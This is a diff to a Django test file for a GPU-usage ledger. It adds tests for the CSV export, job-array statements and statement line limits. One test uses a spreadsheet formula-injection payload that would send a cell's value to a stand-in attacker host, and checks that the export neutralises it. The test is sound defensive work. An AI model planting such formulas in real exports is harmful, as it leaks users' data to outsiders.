@@ -12,7 +12,7 @@ from django.template import Context, Template
 from django.urls import reverse
 
 from jobs import rental
-from jobs.models import Node
+from jobs.models import Job, JobArray, Node
 from metering import reports, services
 from metering.models import MeterEntry
 from tests.factories import UserFactory
@@ -67,12 +67,14 @@ def test_the_live_hour_polls_itself_with_a_plain_link_fallback(member_client, te
 def test_the_ledger_page_runs_the_same_few_queries_however_big_the_ledger(
     member_client, team, node, ledger, django_assert_num_queries
 ):
-    with django_assert_num_queries(16):  # two of them: the jobs' GPU use
+    # Two of them: the jobs' GPU use; two more take and let go of the team's ledger lock around the budget's reads
+    # (inside the test's transaction they are nested; a request of its own reads them in one snapshot instead).
+    with django_assert_num_queries(18):
         assert member_client.get(LEDGER).status_code == 200
     for i in range(12):
         job = rent(team=team, node=node, at=datetime(2024, 5, 1 + i, tzinfo=UTC), gpus=1, name=f"sweep-{i}")
         release(job, at=datetime(2024, 5, 1 + i, 5, tzinfo=UTC))
-    with django_assert_num_queries(16):  # two of them: the jobs' GPU use
+    with django_assert_num_queries(18):
         assert member_client.get(LEDGER).status_code == 200
 
 
@@ -234,3 +236,51 @@ def test_an_implausible_month_falls_back_to_the_current_one(member_client, ledge
 def test_a_user_without_a_team_is_told_so(client):
     client.force_login(UserFactory(username="lonely"))
     assert client.get(LEDGER).status_code == 403
+
+
+def test_the_csv_export_does_not_hand_a_spreadsheet_a_formula(member_client, operator, team, node):
+    """An operator records a correction whose reason begins with '=' (pasted from a ticket, say); the
+    team downloads its ledger as CSV and opens it in a spreadsheet. The reason cell starts with a
+    quote, so it is shown as text, not run as a formula; negative seconds and GPU-hours stay numbers,
+    and the JSON export keeps the reason exactly."""
+    allocation = rent(team=team, node=node, at=datetime(2024, 5, 3, 10, tzinfo=UTC), gpus=1)
+    release(allocation, at=datetime(2024, 5, 3, 12, tzinfo=UTC))
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    services.adjust_meter(
+        allocation_id=allocation.id, microseconds=-60_000_000, reason=reason, author=operator,
+        now=datetime(2024, 5, 4, tzinfo=UTC),
+    )  # fmt: skip
+    query = {"start": "2024-05-01", "end": "2024-05-31"}
+    [row] = [
+        r for r in _csv(member_client.get(reverse("metering:export_csv"), query)) if r["kind"] == "adjustment"
+    ]
+    assert (row["reason"], row["seconds"], row["gpu_hours"]) == ("'" + reason, "-60.000000", "-0.016666667")
+    exported = b"".join(member_client.get(reverse("metering:export_json"), query).streaming_content)
+    assert [r["reason"] for r in json.loads(exported) if r["kind"] == "adjustment"] == [reason]
+
+
+def test_a_months_statement_of_one_array_does_not_say_jobs_are_left_out(member_client, team, node):
+    """Team vision ran one array of 3 tasks in May 2024 and nothing else, and opens the ledger page
+    for May. The statement shows the array as one line (its 3 tasks summed) and, since no line was
+    cut at the statement's limit, does not say that some were left off."""
+    start = datetime(2024, 5, 3, 10, tzinfo=UTC)
+    array = JobArray.objects.create(
+        team=team, name="sweep", spec="0-2", size=3, first_index=0, submitted_at=start
+    )
+    for index in range(3):
+        allocation = rent(team=team, node=node, at=start, gpus=1, name="sweep")
+        Job.objects.filter(id=allocation.job_id).update(array=array, array_index=index)
+        release(allocation, at=start + timedelta(hours=1))
+    page = member_client.get(LEDGER, {"month": "2024-05"}).content.decode()
+    assert f"array {array.id} sweep" in page and "3.000" in page
+    assert "largest" not in page
+
+
+def test_a_months_statement_past_its_line_limit_says_the_export_has_the_rest(team, node, monkeypatch):
+    """A month has more lines than the statement shows: the statement is marked as cut."""
+    monkeypatch.setattr(reports, "JOB_LIMIT", 2)
+    for hour in range(3):
+        allocation = rent(team=team, node=node, at=datetime(2024, 5, 3, hour, tzinfo=UTC), gpus=1)
+        release(allocation, at=datetime(2024, 5, 3, hour, 30, tzinfo=UTC))
+    may = reports.statement(team=team, month=datetime(2024, 5, 1, tzinfo=UTC))
+    assert (len(may.jobs), may.job_count, may.cut) == (2, 3, True)
